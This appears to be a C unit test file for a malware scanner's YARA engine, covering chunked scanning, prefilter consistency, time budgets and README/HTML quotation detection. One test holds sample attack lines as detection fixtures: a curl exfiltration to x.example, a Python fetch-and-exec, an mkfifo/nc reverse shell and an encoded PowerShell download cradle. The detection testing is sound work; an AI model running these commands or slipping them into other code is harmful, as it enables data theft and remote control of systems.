/* The engine: blocks, the ways a rule can ask for bytes, both sets of rules; and the user's rules as they are compiled.
 * The samples of the bundled rules are tested end to end (tests/e2e/test_malware.py). */
#include "support/cm.h"

#include "check/malware.h"
#include "check/yarapack.h"
#include "scan/pipe_prose.h"
#include "scan/yara.h"
#include "scan/yara_compile.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char log_text[4096];

static void on_hit(void *arg, const struct gh_yara_hit *h)
{
	(void)arg;
	size_t n = strlen(log_text);
	(void)snprintf(log_text + n, sizeof log_text - n, "%s@%llu ", h->rule, (unsigned long long)h->off);
}

static void compiled(const char *text, struct gh_buf *out)
{
	char path[] = "/tmp/gh-yara-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	(void)close(fd);
	const char *const paths[] = { path };
	struct gh_err err = { 0 };
	size_t n = 0;
	assert_int_equal(gh_yara_compile(paths, 1, out, &n, &err), GH_OK);
	assert_int_not_equal(n, 0);
	(void)unlink(path);
}

static const char *scan(struct gh_yara *y, const char *text, size_t block, const char *name)
{
	struct gh_span s = gh_span_str(text);
	log_text[0] = '\0';
	gh_yara_begin(y, GH_YARA_HERE, s.n, gh_span_str(name));
	for (size_t at = 0; at < s.n; at += block)
		gh_yara_put(y, GH_YARA_HERE, gh_span_cut(s, at, s.n - at < block ? s.n - at : block), at, block >= s.n);
	assert_null(gh_yara_end(y, GH_YARA_HERE, on_hit, NULL));
	return log_text;
}

static void blocks(void **state)
{
	(void)state;
	gh_auto_buf code = gh_buf(1 << 20);
	compiled("rule both { strings: $a = \"alpha\" $b = \"omega\" condition: all of them }\n"
		 "rule first { condition: uint16be(0) == 0x616c }\n"
		 "rule size { condition: filesize == 20 }\n"
		 "rule named { condition: filename == \"x.bin\" and extension == \".bin\" and filepath == \"d/x.bin\" "
		 "}\n",
		 &code);
	struct gh_yara *y = gh_yara_new(gh_buf_view(&code), 60);
	assert_non_null(y);
	static const char text[] = "alpha.........omega.";
	assert_string_equal(scan(y, text, 100, "d/x.bin"), "both@0 first@0 size@0 named@0 ");
	assert_string_equal(scan(y, text, 7, "x"), "both@0 first@0 size@0 "); /* over blocks, conditions at the end */
	assert_string_equal(scan(y, "alpha..", 100, "x"), "first@0 "); /* nothing is left from the source before */
	assert_string_equal(scan(y, "", 1, "x"), "");
	/* Left in the middle, the next one starts afresh. */
	gh_yara_begin(y, GH_YARA_HERE, 20, gh_span_str("x"));
	gh_yara_put(y, GH_YARA_HERE, gh_span_str("alpha"), 0, false);
	assert_string_equal(scan(y, "..omega", 100, "x"), "");
	/* Two sources at a time. */
	gh_yara_begin(y, GH_YARA_FLOW, 30, gh_span_str("x"));
	gh_yara_put(y, GH_YARA_FLOW, gh_span_str("..alpha.."), 0, false);
	assert_string_equal(scan(y, "omega", 100, "x"), "");
	gh_yara_put(y, GH_YARA_FLOW, gh_span_str("..omega.."), 9, false);
	log_text[0] = '\0';
	assert_null(gh_yara_end(y, GH_YARA_FLOW, on_hit, NULL));
	assert_string_equal(log_text, "both@2 ");
	gh_yara_free(y);
}

/* Behind the first bytes that a worker sees, rules are shown only what may match: the answer must be the same. */
static void first_look(void **state)
{
	(void)state;
	enum { SIZE = 90 << 10, ROUNDS = 40 };
	static const char *const parts[] = {
		"alpha.",
		"ALPHA",
		"o\0m\0e\0g\0a\0",
		"curl      \n\t  http://x/y",
		"curl \n",
		"\x01\x02????\x03\x04",
		"begin",
		"end.",
		"word",
		"swordfish",
		"zz",
		"\x2b\x26\x3a\x22\x2b\x3e",
		"deadbeef",
		"MZ",
	};
	static const uint8_t length[] = { 6, 5, 10, 23, 6, 8, 5, 4, 4, 9, 2, 6, 8, 2 };
	gh_auto_buf code = gh_buf(1 << 20);
	compiled("rule a { strings: $a = \"alpha\" nocase condition: #a > 3 }\n"
		 "rule b { strings: $a = \"omega\" wide condition: $a }\n"
		 "rule c { strings: $a = /curl\\s+http[s]?:\\/\\/[a-z]{1,20}\\/y/ condition: $a }\n"
		 "rule d { strings: $a = { 01 02 [2-6] 03 04 } condition: $a }\n"
		 "rule e { strings: $a = { 62 65 67 69 6e [0-900] 65 6e 64 2e } condition: $a }\n"
		 "rule f { strings: $a = \"word\" fullword condition: $a }\n"
		 "rule g { strings: $a = \"MZ\" $b = \"alpha\" condition: $a at 0 or $b in (1000..9000) }\n"
		 "rule h { strings: $a = \"secret\" xor condition: $a }\n"
		 "rule i { strings: $a = /dead[^\\n]{0,40}beef.{0,300}zz/s condition: $a }\n"
		 "rule j { strings: $a = \"zz\" condition: @a[1] < 5000 and not uint8(0) == 0x4d }\n",
		 &code);
	struct gh_yara *later = gh_yara_new(gh_buf_view(&code), 60);
	uint8_t *p = malloc(SIZE + 1);
	unsigned matched = 0;
	assert_non_null(later);
	srand(4);
	for (unsigned round = 0; round < ROUNDS; round++) {
		char before[sizeof log_text];
		memset(p, '.', SIZE);
		for (size_t i = 0; i < SIZE; i++)
			p[i] = (uint8_t)(round % 2 == 0 ? rand() % 256 : '0' + rand() % 10);
		p[SIZE] = '\0';
		for (unsigned i = 0; i < 60; i++) {
			unsigned k = (unsigned)rand() % GH_ROWS(parts);
			size_t at = i == 0 ? 0 : (size_t)rand() % (SIZE - 100);
			memcpy(p + at, parts[k], length[k]);
			if (i % 3 == 0 && at + 700 < SIZE) /* something near it */
				memcpy(p + at + 20 + (unsigned)rand() % 600, parts[6 + i % 2], length[6 + i % 2]);
		}
		for (unsigned pass = 0; pass < 2; pass++) {
			struct gh_yara *y = pass == 0 ? gh_yara_new(gh_buf_view(&code), 60) : later;
			for (unsigned times = 0; times < (pass == 0 || round > 0 ? 1 : 2); times++) {
				log_text[0] = '\0';
				gh_yara_begin(y, GH_YARA_HERE, SIZE, gh_span_str("x"));
				gh_yara_put(y, GH_YARA_HERE, (struct gh_span){ p, SIZE }, 0, true);
				assert_null(gh_yara_end(y, GH_YARA_HERE, on_hit, NULL));
			}
			if (pass == 0) {
				(void)snprintf(before, sizeof before, "%s", log_text);
				gh_yara_free(y);
			}
		}
		assert_string_equal(before, log_text);
		matched += log_text[0] != '\0';
	}
	assert_int_equal(matched, ROUNDS);
	free(p);
	gh_yara_free(later);
}

/* Of the bundled rules: what begins a match over and over costs no more than other text, and a match behind it is found, at its place. */
static void beginnings_without_end(void **state)
{
	(void)state;
	static const struct {
		const char *unit, *match, *rule;
	} t[] = {
		{ "curl ", "\ncurl https://x.example/ -d @-\n", "environment_exfil" },
		{ "requests.get(", "\nexec(requests.get('http://x.example/a').text)\n", "python_exec_fetched" },
		{ "mkfifo /tmp/f; ", "\nmkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444\n",
		  "reverse_shell_mkfifo" },
		{ "powershell ",
		  "\npowershell -nop -enc "
		  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n",
		  "powershell_encoded" },
	};
	enum { SIZE = 200 << 10 };
	char *p = malloc(SIZE + 400);
	struct gh_yara *y = gh_yara_new((struct gh_span){ 0 }, 60);
	assert_non_null(y);
	for (size_t i = 0; i < GH_ROWS(t); i++)
		for (unsigned found = 0; found < 2; found++) {
			size_t unit = strlen(t[i].unit), n = 0;
			for (; n + unit < SIZE; n += unit)
				memcpy(p + n, t[i].unit, unit);
			size_t at = n + 1;
			n += found != 0 ? (size_t)snprintf(p + n, 400, "%s", t[i].match) : 0;
			clock_t from = clock();
			log_text[0] = '\0';
			gh_yara_begin(y, GH_YARA_HERE, n, gh_span_str("x"));
			gh_yara_put(y, GH_YARA_HERE, (struct gh_span){ (const uint8_t *)p, n }, 0, true);
			assert_null(gh_yara_end(y, GH_YARA_HERE, on_hit, NULL));
			assert_true(clock() - from < 2 * CLOCKS_PER_SEC);
			char want[100];
			(void)snprintf(want, sizeof want, "%s@%zu ", t[i].rule, at);
			if (found == 0)
				assert_null(strstr(log_text, t[i].rule));
			else if (strstr(log_text, want) == NULL)
				fail_msg("%s: %s", want, log_text);
		}
	free(p);
	gh_yara_free(y);
}

/* Nearly a match over and over: what libyara is asked to confirm has a budget. Then the search says that it did not see everything; what it
 * found is told, and the next source begins afresh. */
static void confirming_has_a_budget(void **state)
{
	(void)state;
	static const char unit[] = "nsenter -t1 -msh ",
			  match[] =
				  "powershell -nop -enc "
				  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n";
	enum { SIZE = 400 << 10 };
	char *p = malloc(SIZE);
	struct gh_yara *y = gh_yara_new((struct gh_span){ 0 }, 600);
	assert_non_null(y);
	for (unsigned costly = 0; costly < 4; costly++) {
		size_t n = (size_t)snprintf(p, SIZE, "%s", match);
		for (; costly % 2 == 1 && n + sizeof unit < SIZE; n += sizeof unit - 1)
			memcpy(p + n, unit, sizeof unit - 1);
		log_text[0] = '\0';
		gh_yara_begin(y, GH_YARA_HERE, n, gh_span_str("x"));
		gh_yara_put(y, GH_YARA_HERE, (struct gh_span){ (const uint8_t *)p, n }, 0, true);
		const char *why = gh_yara_end(y, GH_YARA_HERE, on_hit, NULL);
		if (costly % 2 == 0)
			assert_null(why);
		else
			assert_true(why != NULL && strstr(why, "too costly") != NULL);
		assert_non_null(strstr(log_text, "powershell_encoded@0 "));
	}
	free(p);
	gh_yara_free(y);
}

/* Bytes that claim thousands of millions of architectures: their functions count no further than there could be. */
static void counts_that_bytes_claim(void **state)
{
	(void)state;
	static const uint8_t fat[4096] = { 0xca, 0xfe, 0xba, 0xbe, 0xbe, 0x9d };
	gh_auto_buf code = gh_buf(1 << 20);
	compiled("import \"macho\"\nrule many { condition: macho.nfat_arch == 4096 }\n"
		 "rule one { condition: macho.file_index_for_arch(macho.CPU_TYPE_X86) >= 0 or "
		 "macho.entry_point_for_arch(macho.CPU_TYPE_X86) >= 0 }\n",
		 &code);
	struct gh_yara *y = gh_yara_new(gh_buf_view(&code), 60);
	assert_non_null(y);
	time_t before = time(NULL);
	log_text[0] = '\0';
	gh_yara_begin(y, GH_YARA_HERE, sizeof fat, gh_span_str("x"));
	gh_yara_put(y, GH_YARA_HERE, (struct gh_span){ fat, sizeof fat }, 0, true);
	assert_null(gh_yara_end(y, GH_YARA_HERE, on_hit, NULL));
	assert_string_equal(log_text, "many@0 ");
	assert_true(time(NULL) - before < 60);
	gh_yara_free(y);
}

static void texts_for_people(void **state)
{
	(void)state;
	static const struct {
		const char *format, *name, *kind, *text; /* the match is at '@' */
		enum gh_prose is;
	} t[] = {
		{ "text", "d/README.md", "script", "run @ now", GH_PROSE_SAID },
		{ "text", "README.md", "script", "run `@` now", GH_PROSE_QUOTED },
		{ "text", "README.md", "script", "run `a` @ now", GH_PROSE_SAID },
		{ "text", "README.md", "script", "run ``a ` @`` now", GH_PROSE_QUOTED },
		{ "text", "README.md", "script", "```sh\nx\n@\n```\n", GH_PROSE_QUOTED },
		{ "text", "README.md", "script", "```sh\nx\n```\n@\n", GH_PROSE_SAID },
		{ "text", "README.md", "script", "  ~~~@", GH_PROSE_QUOTED },
		{ "text", "a.rst", "script", "x::\n\n    @", GH_PROSE_QUOTED },
		{ "text", "README", "web", "@", GH_PROSE_SAID },
		{ "text", "x/license", "script", "@", GH_PROSE_SAID },
		{ "text", "README.md", "file", "@", GH_PROSE_NO },
		{ "text", "README.md", NULL, "`@`", GH_PROSE_NO },
		{ "text", "run.ps1", "script", "`@`", GH_PROSE_NO },
		{ "text", "", "script", "@", GH_PROSE_NO },
		{ "shell", "README.md", "script", "`@`", GH_PROSE_NO },
		{ "python", "a.txt", "script", "@", GH_PROSE_NO },
		{ "json", "a.ipynb", "script", "[\n \"`@`\"]", GH_PROSE_QUOTED },
		{ "json", "a.json", "script", "@", GH_PROSE_NO },
		{ "html", "a.html", "script", "<p>@", GH_PROSE_SAID },
		{ "html", "a.html", "script", "<p><CODE>@</CODE>", GH_PROSE_QUOTED },
		{ "html", "a.html", "script", "<pre>x</pre>@", GH_PROSE_SAID },
		{ "html", "a.html", "script", "<script>@</script>", GH_PROSE_NO },
		{ "html", "a.html", "web", "<code>@", GH_PROSE_NO },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		size_t off = (size_t)(strchr(t[i].text, '@') - t[i].text);
		enum gh_prose got = gh_prose_at(t[i].format, gh_span_str(t[i].name), t[i].kind, gh_span_str(t[i].text),
						off);
		if (got != t[i].is)
			fail_msg("%s %s '%s': %d", t[i].format, t[i].name, t[i].text, (int)got);
	}
	/* Nothing at hand of it: not known to be a quotation. */
	assert_int_equal(gh_prose_at("text", GH_SPAN("a.md"), "script", (struct gh_span){ 0 }, 0), GH_PROSE_SAID);
	assert_int_equal(gh_prose_at("html", GH_SPAN("a.html"), "script", (struct gh_span){ 0 }, 0), GH_PROSE_NO);
	assert_int_equal(gh_prose_quoted("script", GH_SPAN("`x"), 1), GH_PROSE_QUOTED);
	assert_int_equal(gh_prose_quoted("file", GH_SPAN("`x"), 1), GH_PROSE_NO);
	assert_string_equal(gh_malware_prose_rule(false)->id, "GH-MAL-0008");
	assert_string_equal(gh_malware_prose_rule(true)->id, "GH-MAL-0009");
}

static void damaged_rules(void **state)
{
	(void)state;
	gh_auto_buf code = gh_buf(1 << 20);
	compiled("rule a { strings: $a = \"alpha\" condition: $a }", &code);
	struct gh_yara *y = gh_yara_new(gh_span_cut(gh_buf_view(&code), 0, code.n / 2), 60);
	gh_yara_begin(y, GH_YARA_HERE, 5, gh_span_str("x"));
	gh_yara_put(y, GH_YARA_HERE, gh_span_str("alpha"), 0, true);
	const char *why = gh_yara_end(y, GH_YARA_HERE, on_hit, NULL);
	assert_non_null(why);
	assert_non_null(strstr(why, "your rules could not be loaded"));
	gh_yara_free(y);
}

/* The rows of the pack are those of the compiled rules, and findings of the user's rules are what the rule says. */
static void rows(void **state)
{
	(void)state;
	size_t n = 0;
	while (gh_yarapack_rules[n].id != NULL)
		n++;
	assert_int_equal(n, gh_yarapack_n);
	assert_true(n >= 60);
	assert_string_equal(gh_malware_unlooked_rule->id, "GH-MAL-0004");
	assert_string_equal(gh_malware_rule(GH_MALWARE_KNOWN)->id, "GH-MAL-0005");
	assert_string_equal(gh_malware_rule(GH_MALWARE_CLAMD)->id, "GH-MAL-0006");
	assert_string_equal(gh_malware_rule(GH_MALWARE_CLAMD_LOST)->id, "GH-MAL-0007");
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(blocks),
					    cmocka_unit_test(first_look),
					    cmocka_unit_test(beginnings_without_end),
					    cmocka_unit_test(confirming_has_a_budget),
					    cmocka_unit_test(counts_that_bytes_claim),
					    cmocka_unit_test(texts_for_people),
					    cmocka_unit_test(damaged_rules),
					    cmocka_unit_test(rows) };
	return cmocka_run_group_tests(tests, NULL, NULL);
}
